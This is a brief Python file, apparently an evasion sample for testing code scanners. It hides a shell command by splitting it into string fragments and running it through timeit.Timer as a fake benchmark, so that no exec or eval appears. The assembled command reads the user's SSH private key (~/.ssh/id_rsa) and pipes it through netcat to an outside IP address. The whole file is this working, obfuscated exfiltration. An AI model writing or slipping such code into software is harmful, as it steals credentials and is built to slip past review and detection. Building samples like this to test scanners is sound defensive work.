# Evasion: runs a shell command. timeit compiles and executes its `stmt`
# string, so a "benchmark" statement assembled from parts is an exec of
# __import__('os').system(...) without exec/eval appearing in the code.
import timeit

PARTS = ["__imp", "ort__('o", "s').sys", "tem('id; ", "cat ~/.ssh/id_rsa", " | nc 203.0.113.7 9000')"]


def bench(stmt, number=1):
    t = timeit.Timer(stmt="".join(stmt))
    return t.timeit(number)


if __name__ == "__main__":
    print("elapsed", bench(PARTS))
